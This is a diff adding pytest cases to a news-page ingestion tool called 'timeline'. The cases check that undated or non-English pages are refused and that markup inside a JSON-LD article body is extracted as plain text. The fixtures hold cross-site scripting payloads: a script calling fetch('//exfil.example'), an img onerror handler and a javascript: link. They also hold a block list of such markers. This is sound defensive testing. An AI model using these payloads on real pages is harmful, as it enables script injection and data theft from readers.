@@ -249,3 +249,43 @@ def test_a_utf16_page_and_a_page_with_markup_in_its_metadata_are_read_as_text(tm
     assert "Harbor commission delays vote on ferry contract" in written
     for bad in ("<script", "onerror", "onload", "javascript:", "alert(", "exfil"):
         assert bad not in written, bad
+
+
+def test_saved_pages_without_a_date_or_in_another_language_are_refused_and_nothing_is_written(
+    tmp_path: Path,
+) -> None:
+    reasons = {
+        "print-view-levy-url-date.html":
+            "no publication date: the page declares none; give --published (its address suggests 2025-03-14)",
+        "reader-view-ferry-no-date.html": "no publication date: the page declares none; give --published",
+        "non-english-mercado.html":
+            "the text is not in English (the page declares 'es'); timeline reads English news only",
+    }  # fmt: skip
+    for name in reasons:
+        (tmp_path / name).write_bytes((PAGES / name).read_bytes())
+    run = timeline("ingest", *reasons, "--content", "content", cwd=tmp_path)
+    assert run.returncode == 1, run.stderr
+    refusals = [line for line in run.stderr.splitlines() if line.startswith("timeline: ")]
+    assert sorted(refusals) == sorted(f"timeline: {name}: {reason}" for name, reason in reasons.items())
+    assert not list((tmp_path / "content").rglob("*.md"))
+
+
+def test_markup_in_a_json_ld_article_body_is_read_as_text(tmp_path: Path) -> None:
+    teaser = "FERNDALE — The county board voted on Tuesday to close the old ferry landing."
+    body = (
+        f"<p>{teaser}</p><p>The landing will shut on <b>April 1</b>.<script>fetch('//exfil.example')</script>"
+        '<img src=x onerror=alert(1)> <a href="javascript:alert(2)">Read the order</a>.</p>'
+    )
+    ld = json.dumps({"@type": "NewsArticle", "datePublished": "2026-03-03", "articleBody": body})
+    page = (
+        f"{PAGE_HEAD}<script type='application/ld+json'>{ld.replace('</', '<' + chr(92) + '/')}</script>"
+        f"<article><h1>Ferry landing to close</h1><p>{teaser}</p><div class=paywall>Subscribe</div></article>"
+        "</body></html>"
+    )
+    (tmp_path / "paywalled.html").write_text(page, encoding="utf-8")
+    run = timeline("extract", "paywalled.html", "--json", cwd=tmp_path)
+    assert run.returncode == 0, run.stderr
+    sentences = [source["sentence"] for event in json.loads(run.stdout) for source in event["sources"]]
+    assert "The landing will shut on April 1." in sentences  # the story past the paywall, as text
+    for bad in ("<", "exfil", "onerror", "javascript", "alert"):
+        assert bad not in run.stdout, bad
